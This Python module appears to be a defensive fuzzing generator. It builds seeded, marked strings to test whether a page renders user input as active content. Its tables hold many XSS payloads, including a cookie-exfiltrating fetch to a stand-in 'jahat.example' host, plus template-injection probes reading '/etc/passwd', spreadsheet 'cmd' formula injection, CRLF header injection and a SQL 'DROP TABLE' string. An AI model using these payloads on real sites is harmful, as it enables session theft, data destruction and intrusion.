"""A generator of our own: strings that try to become something active, the same ones for the same seed.

Each string carries a mark («zq» and a number), so that a page can be asked whether it shows the string at all, and whether any part
of the string became more than text.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator

# ruff: noqa: E501 - tables of fragments

MARK = "zq"
ACTS = (
    "alert({m})",
    "fetch('//jahat.example/'+document.cookie)",
    "eval(atob('{m}'))",
    "location='//jahat.example/{m}'",
    "import('//j.example/{m}')",
)
EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "onclick",
    "ontoggle",
    "onanimationstart",
    "onbeforetoggle",
    "onpointerenter",
    "OnErRoR",
)
# fmt: off
TAGS = (
    "script", "img", "svg", "iframe", "object", "embed", "form", "input", "button", "style", "link", "meta", "base", "math", "video", "audio",
    "details", "template", "noscript", "textarea", "title", "marquee", "select", "body", "html", "frame", "frameset", "applet", "portal", "x-foo",
)
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "&#106;avascript:", "&#x6A;avascript:",
    "javascript&colon;", "vbscript:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "blob:", "filesystem:", "file:///",
    "view-source:javascript:", "feed:javascript:", "jar:", "livescript:", "about:blank#", "\u2028javascript:", "javascript\u0000:", "intent://",
)
FRAGMENTS = (
    "<{tag} {event}={act}>", "<{tag}/{event}={act}>", "<{tag}\n{event}\n=\n{act}>", "<{tag} src=x {event}=\"{act}\">{m}</{tag}>", "<{tag}>{act}</{tag}>",
    "<{tag} href='{scheme}{act}'>{m}</{tag}>", "<{tag} src={scheme}{act}>", "<{tag} srcdoc=\"<script>{act}</script>\">", "<{tag} style=\"background:url({scheme}{act})\">",
    "\"><{tag} {event}={act}>", "'><{tag} {event}={act}>", "--><{tag} {event}={act}>", "]]><{tag} {event}={act}>", "</{tag}><script>{act}</script>",
    "</textarea><script>{act}</script>", "</title><{tag} {event}={act}>", "</style><{tag} {event}={act}>", "</script><script>{act}</script>",
    "\" {event}=\"{act}", "' {event}='{act}", "` {event}=`{act}", "\" autofocus {event}=\"{act}\" x=\"", "<{tag}<{tag} {event}={act}>", "<<{tag}>>{act}",
    "<!--[if gte IE 4]><{tag}>{act}</{tag}><![endif]-->", "<![CDATA[<{tag}>{act}</{tag}>]]>", "<?xml version=\"1.0\"?><{tag}>{act}</{tag}>",
    "<svg><{tag}>{act}</{tag}></svg>", "<svg><animate attributeName=href values='{scheme}{act}'/><a>{m}</a></svg>", "<svg><use href='{scheme}{act}'/></svg>",
    "<svg><foreignObject><{tag} {event}={act}></foreignObject></svg>", "<math><mtext></table><style><img src=x {event}={act}>",
    "<math><annotation-xml encoding='text/html'><{tag} {event}={act}>", "<noscript><p title=\"</noscript><img src=x {event}={act}>\">",
    "<form action='{scheme}{act}'><button>{m}</button></form>", "<form action='//jahat.example/{m}'><input name=kata-sandi></form>",
    "<input type=image src=x formaction='{scheme}{act}'>", "<meta http-equiv=refresh content='0;url={scheme}{act}'>", "<base href='//jahat.example/{m}/'>",
    "<link rel=stylesheet href='//jahat.example/{m}.css'>", "<style>@import '//jahat.example/{m}.css';</style>", "<iframe srcdoc='&lt;script&gt;{act}&lt;/script&gt;'>",
    "<a href=\"{scheme}{act}\">{m}</a>", "<a ping='//jahat.example/{m}' href=#>{m}</a>", "<img src='//jahat.example/{m}.png'>", "&lt;{tag} {event}={act}&gt;",
    "&#60;{tag} {event}={act}&#62;", "\\x3c{tag} {event}={act}\\x3e", "\\u003c{tag}\\u003e{act}", "%3C{tag}%20{event}={act}%3E", "+ADw-{tag}+AD4-{act}",
    "<button hx-get='//jahat.example/{m}' hx-trigger=load>", "<div data-block=\"cek\" data-key=\"{m}\">", "<div id=isi data-editor data-save=//jahat.example/{m}>",
)
MARKDOWN = (
    "[{m}]({scheme}{act})", "[{m}](<{scheme}{act}>)", "![{m}]({scheme}{act})", "![{m}](//jahat.example/{m}.png)", "![{m}](https://jahat.example/{m}.png)",
    "![{m}](/m/x.webp \"q\\\" {event}=\\\"{act}\")", "<{scheme}{act}>", "[{m}][{m}]\n\n[{m}]: {scheme}{act}", "[{m}]: {scheme}{act} '{m}'\n\n[{m}]",
    "# <{tag} {event}={act}>", "- <{tag} {event}={act}>", "> <{tag} {event}={act}>", "| <{tag}> |\n| --- |\n| <img src=x {event}={act}> {m} |",
    "`<{tag} {event}={act}>`", "```html\n<{tag} {event}={act}>\n```", "~~~ {{onclick={act}}}\n{m}\n~~~", "**<{tag} {event}={act}>**", "[^{m}]\n\n[^{m}]: <{tag} {event}={act}>",
    "*[{m}]: <{tag} {event}={act}>\n\n{m}", "{m}\n: <{tag} {event}={act}>", "## {m} {{: onclick={act} }}", "[{m}](https://a.example){{: {event}={act} }}", "\\<{tag} {event}={act}\\>",
    "[{m}](x \"onmouseover={act}\")", "[![{m}]({scheme}{act})]({scheme}{act})", "[a](j&#x61;vascript:{act})", "[{m}](/m/../../akun/keluar/)", "http://{m}\"{event}={act}",
)
OWN_BLOCKS = (
    "/// cek | {m}\" {event}=\"{act}\nApakah <{tag}>?\n- [x] <{tag} {event}={act}>\n  {scheme}{act}\n- [ ] {m}\n///", "/// details | <{tag} {event}={act}>\n{m}\n///",
    "/// contoh | <{tag} {event}={act}>\n<{tag}>{act}</{tag}>\n///", "/// html | div[{event}=\"{act}\"]\n{m}\n///", "/// ringkasan\n<{tag} {event}={act}>\n///",
    "/// gambar | {scheme}{act}\n{m}\n///", "/// video | {scheme}{act}\n{m}\n///", "/// audio | //jahat.example/{m}.ogg\n{m}\n///", "/// berkas | {scheme}{act}\n{m}\n///",
    "/// surel\nDari: <{tag} {event}={act}>\nPerihal: {m}\n\n{act}\n///", "/// percakapan | <{tag}>\nA: <{tag} {event}={act}>\nB: {m}\n///", "/// sumber\n- [{m}]({scheme}{act})\n///",
    "/// layar | \"><{tag} {event}={act}>\n{m}\n///", "/// tugas\n1. <{tag} {event}={act}>\n///", "/// fakta | {m}\n<{tag} {event}={act}>\n///", "/// tak-dikenal | {m}\n<{tag}>\n///",
    "/// caption\n<{tag} {event}={act}>\n///", "/// admonition | <{tag}>\n    type: {event}={act}\n{m}\n///", "{{{{istilah:{m}|<{tag} {event}={act}>}}}}", "[[{m}|<{tag}>]]",
)
TEMPLATES = (
    "{{{{ {m} }}}}", "{{{{ request.user.password }}}} {m}", "{{% load static %}} {m}", "{{% include '/etc/passwd' %}} {m}", "{{% debug %}} {m}", "{{# {m} #}}", "${{{act}}} {m}", "#{{{act}}} {m}",
    "<%= {act} %>", "{{{{constructor.constructor('{act}')()}}}}", "%({m})s", "{{0.__class__.__init__.__globals__}} {m}", "{{{{'a'|safe}}}} {m}", "{{% autoescape off %}}<{tag}>{m}{{% endautoescape %}}",
)
FORMULAS = ("=HYPERLINK(\"//jahat.example/{m}\")", "+cmd|' /C calc'!A0 {m}", "-2+3+cmd|' /C calc'!A0 {m}", "@SUM(1+1)*{m}", "\t={m}", "\r={m}", "=WEBSERVICE(\"//j.example/{m}\")", "；={m}", "＝1+1 {m}")
TRICKS = (
    "\u202e{m}\u202c<{tag}>", "\u200b<\u200bscript>{act}", "＜script＞{act}＜/script＞ {m}", "‹script›{act} {m}", "<scr\u00adipt>{act}", "<ſcript>{act}</ſcript> {m}", "<İmg {event}={act}>", "\ufeff<{tag} {event}={act}>",
    "{m}\u2028<{tag}>\u2029", "<\x0c{tag}\x0c{event}={act}>", "\u0085<{tag} {event}={act}>", "{m}" + "\u0301" * 40, "👩‍👩‍👧‍👦{m}\U000e0041", "\u061c{m}\u2066<{tag}>", "<K{tag} {event}={act}>",
)
CONTROLS = ("{m}\x00<{tag}>", "\x1b[31m{m}", "{m}\x08\x08\x08<{tag}>", "<{tag}\x00{event}={act}>", "{m}\r\nSet-Cookie: a={m}", "{m}\r\nBcc: korban@jahat.example", "{m}\x7f\x9f", "\x02{m}\x03", "'; DROP TABLE courses_course;-- {m}")
# fmt: on
FAMILIES: dict[str, tuple[str, ...]] = {
    "html": FRAGMENTS,
    "markdown": MARKDOWN,
    "blocks": OWN_BLOCKS,
    "templates": TEMPLATES,
    "formulas": FORMULAS,
    "tricks": TRICKS,
    "controls": CONTROLS,
}
WEIGHTS = {"html": 40, "markdown": 22, "blocks": 14, "templates": 6, "formulas": 5, "tricks": 8, "controls": 5}
CHANGES: tuple[Callable[[random.Random, str], str], ...] = (
    lambda dice, text: text,
    lambda dice, text: text.upper(),
    lambda dice, text: "".join(one.upper() if dice.random() < 0.5 else one for one in text),
    lambda dice, text: text.replace(" ", dice.choice(("\t", "\n", "\x0c", "/", "\xa0"))),
    lambda dice, text: text.replace("=", dice.choice((" = ", "\n=", "=\x0c")), 1),
    lambda dice, text: text.replace("<", "<" * dice.randint(2, 3), 1),
    lambda dice, text: text.replace(">", "", 1),
    lambda dice, text: text + text,
    lambda dice, text: text[: dice.randint(len(text) // 2, len(text))],
    lambda dice, text: "".join(f"&#{ord(one)};" if dice.random() < 0.3 and one in "<>\"'=:" else one for one in text),
    lambda dice, text: dice.choice(('"', "'", "`", "\\", "*", "_", "](", "<!--", "-->", "</p>", "</div></main>", "&", "|")) + text,
)


def generate(count: int, seed: int) -> Iterator[str]:
    """``count`` strings, each with a mark of its own; another seed gives others."""
    dice = random.Random(seed)
    families = random.Random(seed + 1).choices(list(WEIGHTS), weights=list(WEIGHTS.values()), k=count)
    for number, family in enumerate(families):
        mark = f"{MARK}{number}"
        words = {
            "m": mark,
            "tag": dice.choice(TAGS),
            "event": dice.choice(EVENTS),
            "act": dice.choice(ACTS).format(m=mark),
            "scheme": dice.choice(SCHEMES),
        }
        made = dice.choice(FAMILIES[family]).format(**words)
        changed = dice.choice(CHANGES)(dice, made) if dice.random() < 0.5 else made
        yield changed if MARK in changed.lower() else f"{changed} {mark}"
